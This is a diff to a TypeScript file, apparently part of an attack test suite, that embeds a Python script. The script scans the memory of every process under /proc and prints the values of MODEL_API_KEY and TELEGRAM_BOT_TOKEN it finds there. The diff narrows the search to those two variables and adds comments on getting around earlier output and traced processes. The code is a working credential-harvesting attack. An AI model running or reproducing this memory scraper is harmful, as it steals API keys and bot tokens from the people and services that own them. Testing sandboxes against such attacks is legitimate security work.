@@ -9,7 +9,7 @@ export interface Attack {
   readonly works: boolean;
 }
 
-/** Prints what looks like a bot token or the variable of a key, wherever `read(pid)` finds it. */
+/** Prints the variables that `read(pid)` finds in the memory of each process. */
 const python = (read: string): string => `
 import ctypes, os, re
 libc = ctypes.CDLL(None, use_errno=True)
@@ -21,15 +21,24 @@ def memory(pid):
         if rights.startswith("rw") and end - start < 1 << 30:
             yield start, end
 
+def variables(piece):
+    for name in (b"MODEL_API_KEY=", b"TELEGRAM_BOT_TOKEN="):
+        at = piece.find(name)
+        while at >= 0:
+            # What earlier attempts printed is in memory too; a value has no blanks.
+            if found := re.match(rb"\\w+=[\\w:.-]{20,}", piece[at : at + 200]):
+                yield found[0].decode()
+            at = piece.find(name, at + 1)
+
 ${read}
 
 for pid in filter(str.isdigit, os.listdir("/proc")):
     if int(pid) == os.getpid():
         continue
     try:
-        for piece in read(int(pid)):
-            for found in re.findall(rb"[0-9]{8,}:[A-Za-z0-9_-]{30,}|(?:MODEL_API_KEY|BOT_TOKEN)=[!-~]{8,}", piece):
-                print(pid, found.decode())
+        # Printed afterwards: a process that is being traced does not read what this one prints.
+        found = {variable for piece in read(int(pid)) for variable in variables(piece)}
+        print(pid, *sorted(found), sep="\\n")
     except OSError as error:
         print(pid, type(error).__name__)
 `;
